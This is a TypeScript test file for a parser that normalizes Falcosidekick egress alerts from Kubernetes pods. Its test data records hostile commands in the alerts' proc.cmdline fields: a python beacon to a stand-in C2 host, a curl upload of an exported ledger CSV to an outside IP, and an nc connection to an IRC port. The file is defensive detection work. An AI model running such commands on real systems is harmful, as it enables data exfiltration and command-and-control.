import { readFileSync } from 'node:fs';
import { EgressAlert } from '../../../src/domain/alert.js';
import { showValue as show } from '../../../src/domain/errors.js';
import { parseFalcosidekick, remoteOfFdName } from '../../../src/intake/falcosidekick.js';
import { NAMESPACE_MESSAGE, POD_MESSAGE, SERVICE_MESSAGE } from '../../../src/intake/kube-names.js';
import { parseAlertBody } from '../../../src/intake/parse.js';
import { rejectedIssues, thrownCoded as rejection } from '../../support/coded.js';

const fixture = (name: string) =>
  readFileSync(new URL(`../../fixtures/falcosidekick/${name}`, import.meta.url), 'utf8');
/** 2026-11-25T14:10:00.000Z */
const receivedAt = Date.UTC(2026, 10, 25, 14, 10, 0, 0);
const opts = { receivedAt };

/** A minimal valid Falco event; `fields` replaces output_fields entries (undefined deletes one). */
function falcoEvent(
  fields: Record<string, unknown> = {},
  top: Record<string, unknown> = {},
): Record<string, unknown> {
  const output_fields: Record<string, unknown> = {
    'k8s.ns.name': 'prod',
    'k8s.pod.name': 'payments-api-7d9f8b6c5d-x2x7q',
    'fd.rip': '203.0.113.9',
    'fd.rport': 443,
    ...fields,
  };
  for (const [k, v] of Object.entries(fields)) if (v === undefined) delete output_fields[k];
  return {
    uuid: 'u-1',
    output: 'out',
    priority: 'Warning',
    rule: 'Test rule',
    time: '2026-11-25T14:00:00.000000000Z',
    output_fields,
    source: 'syscall',
    tags: [],
    hostname: 'node-1',
    ...top,
  };
}

describe('Falcosidekick: real rule shapes (Falco 0.38+)', () => {
  it('maps "Outbound Connection to C2 Servers" exactly (IP from fd.sip, port from fd.rport)', () => {
    const batch = parseAlertBody(fixture('c2-servers.json'), 'application/json', opts);
    expect(batch.format).toBe('falcosidekick');
    expect(batch.alerts).toHaveLength(1);
    const a = batch.alerts[0]!;
    expect(EgressAlert.safeParse(a).success).toBe(true);
    expect({ ...a, summary: undefined, extra: undefined }).toEqual({
      origin: 'falcosidekick',
      state: 'firing',
      event: 'Outbound Connection to C2 Servers',
      source: { service: 'payments-api', namespace: 'prod', pod: 'payments-api-7d9f8b6c5d-x2x7q' },
      destination: { type: 'ip', name: '203.0.113.77', port: 443, protocol: 'tcp' },
      requestId: '9f4a2b1e-6c3d-4e8f-a1b2-7c9d0e1f2a3b',
      count: 1,
      firstSeen: '2026-11-25T14:03:12.123Z',
      lastSeen: '2026-11-25T14:03:12.123Z',
      summary: undefined,
      extra: undefined,
    });
    expect(a.summary).toMatch(
      /^14:03:12\.123456789: Warning Outbound connection to C2 server \| c2_domain=c2\.badactor\.example /,
    );
    expect(a.extra).toEqual({
      rule: 'Outbound Connection to C2 Servers',
      priority: 'Warning',
      hostname: 'ip-10-0-12-34.eu-west-1.compute.internal',
      source: 'syscall',
      tags: 'maturity_incubating,host,container,network,mitre_command_and_control,TA0011',
      'container.id': '4f2a9c1d7e3b',
      'container.image.repository': 'registry.example.com/payments/api',
      'container.image.tag': '1.42.0',
      'container.name': 'payments-api',
      // A 19-digit nanosecond time does not fit a JSON number: precision is lost before we see it.
      'evt.time': '1795615392123456800',
      'evt.type': 'connect',
      'fd.l4proto': 'tcp',
      'fd.lport': '51544',
      'fd.name': '10.42.3.17:51544->203.0.113.77:443',
      'fd.rport': '443',
      'fd.sip': '203.0.113.77',
      'fd.sip.name': 'c2.badactor.example',
      'fd.type': 'ipv4',
      'proc.cmdline':
        "python3 -c import urllib.request;urllib.request.urlopen('https://c2.badactor.example/beacon')",
      'proc.exepath': '/usr/local/bin/python3.12',
      'proc.name': 'python3',
      'proc.pname': 'sh',
      'proc.tty': '0',
      'user.loginuid': '-1',
      'user.name': 'app',
      'user.uid': '1000',
    });
  });

  it('maps "Unexpected outbound connection destination" (IP from fd.name, StatefulSet pod)', () => {
    const [a] = parseAlertBody(fixture('unexpected-destination.json'), undefined, opts).alerts;
    expect(a?.event).toBe('Unexpected outbound connection destination');
    expect(a?.source).toEqual({ service: 'ledger-worker', namespace: 'finance', pod: 'ledger-worker-0' });
    expect(a?.destination).toEqual({ type: 'ip', name: '198.51.100.23', port: 8443, protocol: 'tcp' });
    expect(a?.requestId).toBe('0b7e3f52-91a4-4c1d-8e6f-2d5a9b8c7e10');
    expect([a?.firstSeen, a?.lastSeen]).toEqual(['2026-11-25T14:05:40.918Z', '2026-11-25T14:05:40.918Z']);
    expect(a?.extra['proc.cmdline']).toBe(
      'curl -sk https://198.51.100.23:8443/upload -T /var/lib/ledger/export.csv',
    );
    expect(a?.extra.priority).toBe('Notice');
    expect(a?.extra).not.toHaveProperty('k8s.ns.name');
    expect(a?.extra).not.toHaveProperty('k8s.pod.name');
  });

  it('reads an array: fd.rip + upper-case l4proto, fd.name only (default tcp), IPv6 with a string port', () => {
    const { format, alerts } = parseAlertBody(fixture('batch.json'), 'application/json', opts);
    expect(format).toBe('falcosidekick');
    expect(alerts.map((a) => [a.source.service, a.source.namespace, a.destination, a.firstSeen])).toEqual([
      [
        'node-exporter',
        'monitoring',
        { type: 'ip', name: '198.51.100.53', port: 53, protocol: 'udp' },
        '2026-11-25T14:06:01.000Z',
      ],
      [
        'checkout',
        'commerce',
        { type: 'ip', name: '203.0.113.200', port: 6667, protocol: 'tcp' },
        '2026-11-25T14:06:02.500Z',
      ],
      [
        'web',
        'prod',
        { type: 'ip', name: '2001:db8::dead:beef', port: 443, protocol: 'tcp' },
        '2026-11-25T14:06:03.000Z',
      ],
    ]);
    // null and <NA> output fields are not kept; empty tags are not kept.
    expect(alerts[1]?.extra).toEqual({
      rule: 'Outbound IRC Connection',
      priority: 'Warning',
      hostname: 'ip-10-0-1-8.eu-west-1.compute.internal',
      source: 'syscall',
      tags: 'network,irc',
      'evt.type': 'connect',
      'fd.name': '10.42.1.8:40112->203.0.113.200:6667',
      'proc.cmdline': 'sh -c nc 203.0.113.200 6667',
    });
    expect(alerts[0]?.extra).not.toHaveProperty('tags');
  });

  it('prefers fd.rip over fd.sip over fd.name, and fd.rport over fd.sport over fd.name', () => {
    const name = '10.0.0.5:43210->192.0.2.3:3000';
    const pick = (fields: Record<string, unknown>) =>
      parseFalcosidekick(falcoEvent(fields), opts).alerts[0]?.destination;
    expect(pick({ 'fd.rip': '192.0.2.1', 'fd.sip': '192.0.2.2', 'fd.name': name })?.name).toBe('192.0.2.1');
    expect(pick({ 'fd.rip': undefined, 'fd.sip': '192.0.2.2', 'fd.name': name })?.name).toBe('192.0.2.2');
    expect(pick({ 'fd.rip': '<NA>', 'fd.sip': null, 'fd.name': name })?.name).toBe('192.0.2.3');
    expect(pick({ 'fd.rport': 1000, 'fd.sport': 2000, 'fd.name': name })?.port).toBe(1000);
    expect(pick({ 'fd.rport': undefined, 'fd.sport': '2000', 'fd.name': name })?.port).toBe(2000);
    expect(pick({ 'fd.rport': null, 'fd.name': name })?.port).toBe(3000);
  });

  it('uses the time as both first and last seen, and the receipt time when time is missing', () => {
    const {
      alerts: [a],
    } = parseFalcosidekick(falcoEvent({}, { time: undefined }), opts);
    expect([a?.firstSeen, a?.lastSeen]).toEqual(['2026-11-25T14:10:00.000Z', '2026-11-25T14:10:00.000Z']);
  });

  it('cuts the summary (output) to 2000 characters', () => {
    const {
      alerts: [a],
    } = parseFalcosidekick(falcoEvent({}, { output: 'o'.repeat(2500) }), opts);
    expect(a?.summary).toBe('o'.repeat(2000));
  });
});

describe('Falcosidekick: events that are not from a pod, or lack a destination', () => {
  it('rejects a host process event, naming both k8s fields', () => {
    const err = rejection(() => parseAlertBody(fixture('host-event.json'), 'application/json', opts));
    expect(err.code).toBe('alert_invalid');
    expect(err.message).toBe('Rejected: the Falco event is invalid, nothing was recorded');
    expect(err.issues).toEqual([
      {
        path: 'output_fields.k8s.ns.name',
        message:
          'the event is not from a Kubernetes workload (a host process?): k8s.ns.name is null; only pod egress can be handled',
      },
      {
        path: 'output_fields.k8s.pod.name',
        message:
          'the event is not from a Kubernetes workload (a host process?): k8s.pod.name is null; only pod egress can be handled',
      },
    ]);
  });

  it('says <NA> and missing the same way, with the array index in the path', () => {
    const batch = parseFalcosidekick(
      [
        falcoEvent(),
        falcoEvent({ 'k8s.ns.name': '<NA>', 'k8s.pod.name': '<NA>' }),
        falcoEvent({ 'k8s.pod.name': undefined }),
      ],
      opts,
    );
    expect(batch.alerts).toHaveLength(1);
    expect(rejectedIssues(batch).map((i) => [i.path, i.message.split(';')[0]])).toEqual([
      [
        '[1].output_fields.k8s.ns.name',
        'the event is not from a Kubernetes workload (a host process?): k8s.ns.name is "<NA>"',
      ],
      [
        '[1].output_fields.k8s.pod.name',
        'the event is not from a Kubernetes workload (a host process?): k8s.pod.name is "<NA>"',
      ],
      [
        '[2].output_fields.k8s.pod.name',
        'the event is not from a Kubernetes workload (a host process?): k8s.pod.name is missing',
      ],
    ]);
  });

  it('names the remote address and port fields when neither can be found', () => {
    const err = rejection(() =>
      parseFalcosidekick(
        falcoEvent({ 'fd.rip': undefined, 'fd.rport': undefined, 'fd.name': '/var/run/docker.sock' }),
        opts,
      ),
    );
    expect(err.issues).toEqual([
      {
        path: 'output_fields.fd.name',
        message:
          'no remote IP address: expected fd.rip, fd.sip or fd.name like 10.0.0.5:43210->203.0.113.9:443',
        value: '"/var/run/docker.sock"',
      },
      {
        path: 'output_fields.fd.rport',
        message:
          'no remote port: expected fd.rport, fd.sport or fd.name like 10.0.0.5:43210->203.0.113.9:443',
      },
    ]);
  });

  it('reports a bad envelope: output_fields not an object, tags not strings, bad time', () => {
    const err = rejection(() =>
      parseFalcosidekick(
        [
          { rule: 'r', priority: 'Warning', output_fields: 'k8s.ns.name=prod' },
          falcoEvent({}, { tags: ['a', 1], time: '14:00:00' }),
        ],
        opts,
      ),
    );
    expect(err.issues).toEqual([
      {
        path: '[0].output_fields',
        message: 'expected an object of Falco fields',
        value: '"k8s.ns.name=prod"',
      },
      { path: '[1].tags[1]', message: 'expected a string', value: '1' },
      {
        path: '[1].time',
        message: 'expected an RFC 3339 time with a zone (2026-11-25T14:03:12Z)',
        value: '"14:00:00"',
      },
    ]);
  });
});

describe('Falcosidekick: Kubernetes names', () => {
  const issuesFor = (fields: Record<string, unknown>) =>
    rejection(() => parseFalcosidekick(falcoEvent(fields), opts)).issues;

  it.each(['Payments-API-7d9f8b6c5d-x2x7q', 'a/b', 'pod,tier=db', '-pod', 'pod-', 'a..b', 'p'.repeat(254)])(
    'rejects the pod name %j, naming k8s.pod.name',
    (pod) => {
      expect(issuesFor({ 'k8s.pod.name': pod })).toEqual([
        { path: 'output_fields.k8s.pod.name', message: POD_MESSAGE, value: show(pod) },
      ]);
    },
  );

  it.each(['..', 'Prod', 'a/b', '-x', 'kube.system'])(
    'rejects the namespace %j, naming k8s.ns.name',
    (ns) => {
      expect(issuesFor({ 'k8s.ns.name': ns })).toEqual([
        { path: 'output_fields.k8s.ns.name', message: NAMESPACE_MESSAGE, value: JSON.stringify(ns) },
      ]);
    },
  );

  it('accepts a pod name of up to 253 characters, with dots, when its workload name is a service name', () => {
    const pod = `${'a'.repeat(50)}.${'b'.repeat(5)}-0`;
    expect(parseFalcosidekick(falcoEvent({ 'k8s.pod.name': pod }), opts).alerts[0]?.source).toEqual({
      service: `${'a'.repeat(50)}.${'b'.repeat(5)}`,
      namespace: 'prod',
      pod,
    });
    const [alert] = parseFalcosidekick(
      falcoEvent({ 'k8s.pod.name': 'constructor-0', 'k8s.ns.name': 'constructor' }),
      opts,
    ).alerts;
    expect(alert?.source).toEqual({ service: 'constructor', namespace: 'constructor', pod: 'constructor-0' });
  });

  it('never reads an output field through a __proto__ key', () => {
    const event = falcoEvent({ 'k8s.ns.name': undefined });
    const body = JSON.stringify(event).replace(
      '"output_fields":{',
      '"output_fields":{"__proto__":{"k8s.ns.name":"prod"},',
    );
    const issues = rejectedIssues(
      parseAlertBody(`[${body},${JSON.stringify(falcoEvent())}]`, undefined, opts),
    );
    expect(issues.map((i) => i.path)).toEqual(['[0].output_fields.k8s.ns.name']);
  });

  it('rejects a valid pod name whose workload name could not be a label value (longer than 63)', () => {
    const pod = 'w'.repeat(200);
    expect(issuesFor({ 'k8s.pod.name': pod })).toEqual([
      {
        path: 'output_fields.k8s.pod.name',
        message: `its workload name ${show(pod)} is not a service name: ${SERVICE_MESSAGE}`,
        value: show(pod),
      },
    ]);
  });
});

describe('remoteOfFdName', () => {
  it('parses IPv4 and IPv6 tuples, and refuses what is not ip:port', () => {
    expect(remoteOfFdName('10.0.0.5:43210->203.0.113.9:443')).toEqual({ ip: '203.0.113.9', port: 443 });
    expect(remoteOfFdName('[fd00::8]:40000->[2001:db8::1]:8443')).toEqual({ ip: '2001:db8::1', port: 8443 });
    expect(remoteOfFdName('fd00::8:40000->2001:db8::dead:beef:443')).toEqual({
      ip: '2001:db8::dead:beef',
      port: 443,
    });
    expect(remoteOfFdName('10.0.0.5:43210->203.0.113.9:99999')).toBeUndefined();
    expect(remoteOfFdName('10.0.0.5:43210->evil.example:443')).toBeUndefined();
    expect(remoteOfFdName('/var/run/docker.sock')).toBeUndefined();
  });
});
